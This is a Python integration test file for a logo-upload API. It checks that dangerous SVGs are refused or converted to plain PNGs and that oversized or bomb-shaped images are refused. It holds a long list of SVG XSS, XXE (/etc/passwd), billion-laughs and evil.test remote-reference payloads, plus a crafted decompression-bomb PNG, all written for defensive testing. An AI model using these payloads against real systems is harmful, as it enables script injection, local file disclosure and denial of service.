"""Logo uploads through the API: what is stored is inert, and never bigger than documents need.

Every SVG known to carry script, links, animation or external references is either refused (`422`
naming `body`, nothing stored) or stored defused: as a PNG drawn from it, which holds pixels only.
Raster images are limited by pixels, checked before they are decoded.
"""

from __future__ import annotations

import base64
import io
import struct
import zlib
from pathlib import Path

import boto3
import pytest
from PIL import Image

from tests.integration.api_client import ApiClient, ApiResponse
from tests.integration.conftest import LOGO_BUCKET

PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"
SVG_NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
SCRIPT_B64 = base64.b64encode(b"<script>alert(1)</script>").decode()
SVG_WITH_SCRIPT_B64 = base64.b64encode(
    f'<svg {SVG_NS}><script>alert(1)</script><rect id="x" width="9" height="9"/></svg>'.encode()
).decode()
# What must never reach a stored logo: anything a browser would run or fetch.
ACTIVE_CONTENT = (b"<script", b"javascript:", b"<svg", b"href", b"onload", b"<foreignObject", b"@import")


def svg(body: str, *, prolog: str = "", root_attributes: str = "") -> bytes:
    return (
        f'{prolog}<svg {SVG_NS} width="120" height="40" {root_attributes}>'
        f'<rect width="120" height="40" fill="#0b6e4f"/>{body}</svg>'
    ).encode()


BILLION_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">'
    + b"".join(
        f'<!ENTITY {name} "{("&" + previous + ";") * 10}">'.encode()
        for previous, name in zip("abcdefgh", "bcdefghi", strict=True)
    )
    + f"]><svg {SVG_NS}><text>&i;</text></svg>".encode()
)

# Known SVG script vectors (OWASP's and PortSwigger's cheat sheets, the issue's own attack).
SCRIPT_VECTORS: dict[str, bytes] = {
    "script element": svg("<script>alert(1)</script>"),
    "script in CDATA": svg("<script><![CDATA[alert(1)]]></script>"),
    "external script": svg('<script href="https://evil.test/x.js"/>'),
    "script from a base64 data URI": svg('<script xlink:href="data:text/javascript;base64,YWxlcnQoMSk="/>'),
    "set href to javascript on an a": svg(
        '<a><set attributeName="href" to="javascript:alert(1)"/><text y="20">Acme</text></a>'
    ),
    "animate href to javascript": svg(
        '<a><animate attributeName="href" values="javascript:alert(1)"/><text y="20">Acme</text></a>'
    ),
    "animate xlink:href to javascript": svg(
        '<a><animate attributeName="xlink:href" values="javascript:alert(1)"/><text y="20">x</text></a>'
    ),
    "set onload": svg('<set attributeName="onload" to="alert(1)"/>'),
    "a with javascript href": svg('<a href="javascript:alert(1)"><rect width="9" height="9"/></a>'),
    "a with javascript xlink:href": svg(
        '<a xlink:href="javascript:alert(1)"><rect width="9" height="9"/></a>'
    ),
    "a with an entity-encoded javascript href": svg(
        '<a href="&#106;avascript:alert(1)"><rect width="9" height="9"/></a>'
    ),
    "a with a data: html href": svg(
        f'<a href="data:text/html;base64,{SCRIPT_B64}"><rect width="9" height="9"/></a>'
    ),
    "a wrapper around everything": svg('<a href="https://evil.test/"><circle r="9" cx="9" cy="9"/></a>'),
    "foreignObject with html": svg(
        '<foreignObject width="100" height="40"><body xmlns="http://www.w3.org/1999/xhtml">'
        '<script>alert(1)</script><iframe src="javascript:alert(1)"></iframe></body></foreignObject>'
    ),
    "onload on the root": svg("", root_attributes='onload="alert(1)"'),
    "ONLOAD upper case": svg("", root_attributes='ONLOAD="alert(1)"'),
    "OnLoad mixed case": svg("", root_attributes='OnLoad="alert(1)"'),
    "onclick on a shape": svg('<rect width="9" height="9" onclick="alert(1)"/>'),
    "onmouseover on a shape": svg('<circle r="9" onMouseOver="alert(1)"/>'),
    "onbegin on an animation": svg('<animate onbegin="alert(1)" attributeName="x" dur="1s"/>'),
    "namespaced event handler": svg('<rect xmlns:x="urn:x" x:onclick="alert(1)" width="9" height="9"/>'),
    "xml-events handler": svg(
        '<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler>'
    ),
    "use of a remote sprite": svg('<use href="http://evil.test/sprite.svg#x"/>'),
    "use of a remote sprite by xlink:href": svg('<use xlink:href="https://evil.test/sprite.svg#x"/>'),
    "use of a data: svg with script": svg(f'<use href="data:image/svg+xml;base64,{SVG_WITH_SCRIPT_B64}#x"/>'),
    "external image": svg('<image href="https://evil.test/tracker.png" width="9" height="9"/>'),
    "external image by xlink:href": svg('<image xlink:href="//evil.test/t.png" width="9" height="9"/>'),
    "image of a local file": svg('<image href="file:///etc/hostname" width="9" height="9"/>'),
    "image of a local path": svg('<image href="/etc/ssl/certs/ca-certificates.crt" width="9" height="9"/>'),
    "feImage of a remote image": svg(
        '<filter id="f"><feImage href="https://evil.test/x.png"/></filter><rect filter="url(#f)"/>'
    ),
    "xml-stylesheet css": svg("", prolog='<?xml-stylesheet href="https://evil.test/x.css" type="text/css"?>'),
    "xml-stylesheet xslt": svg(
        "", prolog='<?xml-stylesheet type="text/xsl" href="https://evil.test/x.xsl"?>'
    ),
    "style @import": svg("<style>@import url(https://evil.test/x.css);</style>"),
    "style url()": svg("<style>rect { fill: url(https://evil.test/x.svg#p) }</style>"),
    "style attribute url()": svg('<rect style="fill:url(https://evil.test/x.svg#p)" width="9" height="9"/>'),
    "style javascript url": svg('<rect style="background:url(javascript:alert(1))" width="9" height="9"/>'),
    "billion laughs": BILLION_LAUGHS,
    "external entity": (
        f'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        f"<svg {SVG_NS}><text>&x;</text></svg>"
    ).encode(),
    "external parameter entity": (
        f'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY % p SYSTEM "https://evil.test/x.dtd"> %p;]>'
        f"<svg {SVG_NS}/>"
    ).encode(),
    "DOCTYPE default onload attribute": svg(
        "", prolog='<?xml version="1.0"?><!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]>'
    ),
    "XInclude of a local file": svg(
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
    ),
    "iframe": svg('<iframe src="javascript:alert(1)"/>'),
    "embed": svg('<embed src="https://evil.test/x.swf"/>'),
    "object": svg(f'<object data="data:text/html;base64,{SCRIPT_B64}"/>'),
    "html root pretending": f'<html xmlns="http://www.w3.org/1999/xhtml"><svg {SVG_NS}/></html>'.encode(),
}


def create_organisation(api: ApiClient) -> str:
    response = api.post("/v1/organisations", {"name": "Acme Ltd", "default_currency": "EUR"})
    assert response.status == 201, response.body
    organisation_id: str = response.json()["id"]
    return organisation_id


def upload(api: ApiClient, organisation_id: str, content: bytes, content_type: str) -> ApiResponse:
    return api.put(
        f"/v1/organisations/{organisation_id}/logo", raw_body=content, headers={"Content-Type": content_type}
    )


def stored_logos(organisation_id: str) -> list[bytes]:
    s3 = boto3.client("s3")
    listed = s3.list_objects_v2(Bucket=LOGO_BUCKET, Prefix=f"logos/{organisation_id}/")
    return [
        s3.get_object(Bucket=LOGO_BUCKET, Key=item["Key"])["Body"].read()
        for item in listed.get("Contents", [])
    ]


def png(width: int, height: int, colour: tuple[int, ...] = (11, 110, 79), mode: str = "RGB") -> bytes:
    buffer = io.BytesIO()
    Image.new(mode, (width, height), colour).save(buffer, "PNG", optimize=True)
    return buffer.getvalue()


def png_claiming(width: int, height: int) -> bytes:
    """A tiny PNG whose header claims `width` x `height` pixels: a decompression bomb's shape."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        PNG_SIGNATURE
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\0" * 64))
        + chunk(b"IEND", b"")
    )


def image_of(content: bytes) -> Image.Image:
    image = Image.open(io.BytesIO(content))
    image.load()
    return image


# --- SVG: refused or defused ---------------------------------------------------------------------


@pytest.mark.parametrize("content", SCRIPT_VECTORS.values(), ids=SCRIPT_VECTORS.keys())
def test_an_svg_with_active_content_is_refused_or_stored_as_inert_pixels(
    api: ApiClient, content: bytes
) -> None:
    # Given an organisation
    organisation_id = create_organisation(api)

    # When an SVG carrying a known script vector is uploaded as its logo
    response = upload(api, organisation_id, content, "image/svg+xml")

    # Then it is refused, naming the body, and nothing is stored...
    if response.status == 422:
        assert response.json()["errors"][0]["field"] == "body"
        assert stored_logos(organisation_id) == []
        assert api.get(f"/v1/organisations/{organisation_id}").json()["branding"]["logo_url"] is None
        return
    # ...or it is stored as a PNG drawn from it, which holds no markup at all
    assert response.status == 200, response.body
    [stored] = stored_logos(organisation_id)
    assert stored.startswith(PNG_SIGNATURE)
    assert image_of(stored).format == "PNG"
    assert not [marker for marker in ACTIVE_CONTENT if marker in stored]
    assert response.json()["branding"]["logo_url"].endswith(".png")


def test_an_svg_logo_is_stored_as_a_png_of_its_drawing(api: ApiClient) -> None:
    # Given an organisation
    organisation_id = create_organisation(api)
    drawing = svg('<circle cx="100" cy="20" r="15" fill="#ff0000"/>')

    # When a plain SVG logo is uploaded
    response = upload(api, organisation_id, drawing, "image/svg+xml")

    # Then the stored logo is a PNG of the drawing, scaled to fit the logo box (720 x 240)
    assert response.status == 200, response.body
    served = api.get(
        response.json()["branding"]["logo_url"].removeprefix("https://api.remit.test"), api_key=None
    )
    assert served.content_type == "image/png"
    image = image_of(served.body).convert("RGB")
    assert image.size == (720, 240)
    assert image.getpixel((5, 5)) == (11, 110, 79)
    assert image.getpixel((600, 120)) == (255, 0, 0)


def test_an_svg_that_refers_to_a_local_image_file_is_refused_and_the_file_is_never_read(
    api: ApiClient, tmp_path: Path
) -> None:
    # Given an image file on the machine that handles uploads
    secret = tmp_path / "secret.png"
    secret.write_bytes(png(8, 8, (255, 0, 0)))
    organisation_id = create_organisation(api)

    # When an SVG logo refers to it by path
    response = upload(
        api, organisation_id, svg(f'<image href="{secret}" width="120" height="40"/>'), "image/svg+xml"
    )

    # Then it is refused, naming the reference, and nothing is stored
    assert response.status == 422
    assert response.json()["errors"][0]["field"] == "body"
    assert "refer" in response.json()["errors"][0]["message"]
    assert stored_logos(organisation_id) == []


def test_an_svg_with_an_embedded_raster_image_keeps_it(api: ApiClient) -> None:
    # Given an SVG whose picture is a PNG embedded as a data: URL
    embedded = base64.b64encode(png(12, 4, (255, 0, 0))).decode()
    drawing = svg(f'<image href="data:image/png;base64,{embedded}" width="120" height="40"/>')
    organisation_id = create_organisation(api)

    # When it is uploaded
    response = upload(api, organisation_id, drawing, "image/svg+xml")

    # Then the stored PNG shows the embedded picture
    assert response.status == 200, response.body
    [stored] = stored_logos(organisation_id)
    assert image_of(stored).convert("RGB").getpixel((360, 120)) == (255, 0, 0)


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"<svg", "well-formed"),
        (b'<?xml version="1.0"?><root/>', "not an SVG"),
        (f"<svg {SVG_NS}>".encode() + b"<g>" * 2000 + b"</g>" * 2000 + b"</svg>", "at most 100 deep"),
    ],
    ids=["truncated", "not svg", "too deeply nested"],
)
def test_an_svg_that_cannot_be_drawn_is_refused_naming_why(
    api: ApiClient, content: bytes, message: str
) -> None:
    organisation_id = create_organisation(api)

    response = upload(api, organisation_id, content, "image/svg+xml")

    assert response.status == 422
    assert response.json()["errors"][0]["field"] == "body"
    assert message in response.json()["errors"][0]["message"]
    assert stored_logos(organisation_id) == []


# --- raster images: limited by pixels --------------------------------------------------------------


@pytest.mark.parametrize(
    ("content", "content_type"),
    [
        (png(2001, 2000), "image/png"),
        (png(4096, 4096), "image/png"),
        (png_claiming(100_000, 100_000), "image/png"),
        (png_claiming(2**31 - 1, 1), "image/png"),
    ],
    ids=["just over 4,000,000 pixels", "4096 x 4096 (58 KB)", "a bomb's header", "one endless row"],
)
def test_an_image_of_more_than_four_million_pixels_is_refused_before_it_is_decoded(
    api: ApiClient, content: bytes, content_type: str
) -> None:
    # Given an organisation
    organisation_id = create_organisation(api)

    # When an image larger than 4,000,000 pixels is uploaded (however few bytes it takes)
    response = upload(api, organisation_id, content, content_type)

    # Then it is refused, naming the body and the limit, and nothing is stored
    assert response.status == 422
    assert response.json()["errors"][0]["field"] == "body"
    assert "4,000,000 pixels" in response.json()["errors"][0]["message"]
    assert stored_logos(organisation_id) == []


def test_a_jpeg_of_more_than_four_million_pixels_is_refused(api: ApiClient) -> None:
    buffer = io.BytesIO()
    Image.new("RGB", (4000, 1001), (200, 10, 10)).save(buffer, "JPEG", quality=20)
    organisation_id = create_organisation(api)

    response = upload(api, organisation_id, buffer.getvalue(), "image/jpeg")

    assert response.status == 422
    assert "4,000,000 pixels" in response.json()["errors"][0]["message"]


@pytest.mark.parametrize(
    ("size", "stored_size"),
    [((2000, 2000), (240, 240)), ((4000, 1000), (720, 180)), ((300, 100), (300, 100))],
    ids=["the largest square", "a wide banner", "small, kept as it is"],
)
def test_a_raster_logo_is_scaled_down_to_fit_the_logo_box(
    api: ApiClient, size: tuple[int, int], stored_size: tuple[int, int]
) -> None:
    organisation_id = create_organisation(api)

    response = upload(api, organisation_id, png(*size), "image/png")

    assert response.status == 200, response.body
    [stored] = stored_logos(organisation_id)
    assert image_of(stored).size == stored_size


def test_a_jpeg_logo_stays_a_jpeg_without_its_metadata(api: ApiClient) -> None:
    # Given a JPEG photo logo carrying EXIF metadata (a camera, a place)
    buffer = io.BytesIO()
    exif = Image.Exif()
    exif[0x010F] = "Camera maker"
    Image.new("RGB", (1600, 800), (200, 10, 10)).save(buffer, "JPEG", exif=exif.tobytes())
    organisation_id = create_organisation(api)

    # When it is uploaded
    response = upload(api, organisation_id, buffer.getvalue(), "image/jpeg")

    # Then it is stored as a JPEG scaled into the box, without the metadata
    assert response.status == 200, response.body
    assert response.json()["branding"]["logo_url"].endswith(".jpg")
    [stored] = stored_logos(organisation_id)
    image = image_of(stored)
    assert (image.format, image.size) == ("JPEG", (480, 240))
    assert b"Camera maker" not in stored


def test_a_transparent_png_logo_keeps_its_transparency(api: ApiClient) -> None:
    organisation_id = create_organisation(api)

    response = upload(api, organisation_id, png(200, 100, (0, 0, 0, 0), mode="RGBA"), "image/png")

    assert response.status == 200, response.body
    [stored] = stored_logos(organisation_id)
    assert image_of(stored).convert("RGBA").getpixel((10, 10))[3] == 0
